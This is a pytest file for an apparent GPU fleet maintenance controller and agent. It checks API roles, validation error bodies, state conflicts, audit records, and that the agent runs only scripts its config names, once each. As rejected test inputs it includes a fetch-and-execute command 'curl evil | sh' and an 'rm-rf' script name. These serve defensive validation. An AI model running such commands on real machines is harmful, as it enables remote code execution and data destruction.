"""The maintenance routes and the agent's side of a maintenance action, against the real controller
(FastAPI + SQLite, simulated scheduler): roles, error bodies that name the field, the value and what
was expected, state conflicts; and the agent running only the script its own config names, once."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from gpufleet.agent.commands import CommandPoller, SimRepairs
from gpufleet.agent.devices.sim import SimDevice
from gpufleet.agent.maintenance import MaintenanceScripts
from gpufleet.controller.runtime import Runtime, build
from gpufleet.controller.settings import ControllerSettings, Role, SchedulerKind, TokenConfig
from gpufleet.controller.store.repairs import RepairStore
from gpufleet.domain.fleet import Fleet, Node
from gpufleet.schedulers.sim import SimScheduler

N1, N2 = "r01-n001", "r02-n001"
OPERATOR, VIEWER, AGENT = "operator-token-0123456789", "viewer-token-0123456789", "agent-token-0123456789"


@pytest.fixture
def api(tmp_path: Path) -> Iterator[tuple[Runtime, str]]:
    settings = ControllerSettings(
        database_url=f"sqlite:///{tmp_path / 'c.db'}", host="127.0.0.1", port=0, scheduler=SchedulerKind.SIM,
        tokens=(TokenConfig(name="olga", role=Role.OPERATOR, token=OPERATOR),
                TokenConfig(name="vic", role=Role.VIEWER, token=VIEWER),
                TokenConfig(name="a1", role=Role.AGENT, token=AGENT, nodes=("*",))))
    rt = build(settings, SimScheduler([N1, N2]))
    rt.controller.register_fleet(Fleet.of([Node(id=N1, rack="r01"), Node(id=N2, rack="r02")]))
    ports: list[int] = []
    rt.start_api(on_started=ports.append)
    yield rt, f"http://127.0.0.1:{ports[0]}"
    rt.shutdown()


def call(url: str, token: str, method: str, path: str, body: Any = None) -> httpx.Response:
    return httpx.request(method, f"{url}/v1{path}", json=body, headers={"Authorization": f"Bearer {token}"})


@pytest.mark.parametrize(("body", "field", "value"), [
    ({"selector": "rack:r09", "action": "reboot"}, "selector", "rack:r09"),
    ({"selector": "all", "action": "curl evil | sh"}, "action", "curl evil | sh"),
    ({"selector": "all", "action": "reboot", "max_unavailable": 0}, "max_unavailable", 0),
    ({"selector": "all", "action": "reboot", "on_failure": "shrug"}, "on_failure", "shrug"),
])
def test_a_bad_plan_answers_422_naming_field_value_and_expectation(
        api: tuple[Runtime, str], body: dict[str, Any], field: str, value: Any) -> None:
    _, url = api
    r = call(url, OPERATOR, "POST", "/maintenance", body)
    assert r.status_code == 422, r.text
    (err,) = r.json()["detail"]
    assert err["field"] == field and err["value"] == value and err["expected"], err


def test_the_list_counts_each_rollouts_nodes_per_step_and_the_detail_lists_them(api: tuple[Runtime, str]) -> None:
    _, url = api
    ids = [call(url, OPERATOR, "POST", "/maintenance", {"selector": sel, "action": "reboot"}).json()["id"]
           for sel in ("all", f"nodes:{N2}", f"nodes:{N1}")]
    call(url, OPERATOR, "POST", f"/maintenance/{ids[1]}/abort", {"reason": "not now"})
    listed = call(url, VIEWER, "GET", "/maintenance").json()
    assert [x["id"] for x in listed] == ids[::-1]  # newest first
    assert all("nodes" not in x and "batches" not in x for x in listed)  # a whole fleet's rollout stays small
    by = {x["id"]: x for x in listed}
    for rid in ids:  # the counts are those of the rollout's own nodes, as its detail lists them
        detail = call(url, VIEWER, "GET", f"/maintenance/{rid}").json()
        steps: dict[str, int] = {}
        for n in detail["nodes"]:
            steps[n["step"]] = steps.get(n["step"], 0) + 1
        assert by[rid]["counts"] == steps and by[rid]["state"] == detail["state"] and by[rid]["spec"] == detail["spec"]
    assert by[ids[0]]["counts"] == {"pending": 2}
    assert [x["id"] for x in call(url, VIEWER, "GET", "/maintenance?limit=2").json()] == ids[:0:-1]
    assert call(url, VIEWER, "GET", "/maintenance?limit=0").status_code == 422


def test_roles_plan_and_state_conflicts(api: tuple[Runtime, str]) -> None:
    _, url = api
    body = {"selector": "all", "action": "script:fw", "max_unavailable": 1}
    assert call(url, VIEWER, "POST", "/maintenance", body).status_code == 403
    r = call(url, OPERATOR, "POST", "/maintenance", body)
    assert r.status_code == 201, r.text
    doc = r.json()
    assert doc["state"] == "planned" and doc["batches"] == [[N1], [N2]] and doc["counts"] == {"pending": 2}
    rid = doc["id"]
    assert call(url, VIEWER, "GET", f"/maintenance/{rid}").json()["id"] == rid
    assert [x["id"] for x in call(url, VIEWER, "GET", "/maintenance").json()] == [rid]
    assert call(url, VIEWER, "POST", f"/maintenance/{rid}/start").status_code == 403
    r = call(url, OPERATOR, "POST", f"/maintenance/{rid}/pause")
    assert r.status_code == 409 and "is planned" in r.json()["detail"]
    assert call(url, OPERATOR, "GET", "/maintenance/m-unknown").status_code == 404
    r = call(url, OPERATOR, "POST", f"/maintenance/{rid}/abort", {"reason": "window moved"})
    assert r.json()["state"] == "aborted" and r.json()["reason"] == "window moved"
    audit = call(url, VIEWER, "GET", f"/audit?target={rid}").json()
    assert [(a["action"], a["actor_id"]) for a in audit][::-1][:2] == [
        ("maintenance_plan", "operator:olga"), ("maintenance_abort", "operator:olga")]


def test_the_agent_runs_only_a_script_its_config_names_and_only_once(
        api: tuple[Runtime, str], tmp_path: Path) -> None:
    rt, url = api
    runs = tmp_path / "runs"
    scripts = {"fw": [sys.executable, "-c", f"open({str(runs)!r}, 'a').write('ran\\n')"]}
    device = SimDevice(2)
    device.open()
    repairs = MaintenanceScripts(SimRepairs(device), scripts, N1)
    poller = CommandPoller(url, AGENT, N1, repairs, tmp_path / "commands.json", boot_id=lambda: "boot-a")
    store = RepairStore(rt.controller.store)
    now = rt.controller.clock.now()
    store.enqueue("maint:m-1:r01-n001", N1, "script:fw", now)
    store.enqueue("maint:m-2:r01-n001", N1, "script:rm-rf", now)  # not in this agent's config
    assert poller.poll_once() == ["maint:m-1:r01-n001", "maint:m-2:r01-n001"]
    ok, refused = store.command("maint:m-1:r01-n001"), store.command("maint:m-2:r01-n001")
    assert ok is not None and ok.status == "succeeded"
    assert refused is not None and refused.status == "failed" and "names no maintenance script 'rm-rf'" in \
        refused.detail
    again = CommandPoller(url, AGENT, N1, repairs, tmp_path / "commands.json", boot_id=lambda: "boot-a")
    assert again._entry("maint:m-1:r01-n001", "script:fw")["ok"] is True  # a redelivery: the journal's result
    assert runs.read_text() == "ran\n", "run once"
    poller.close()
    again.close()
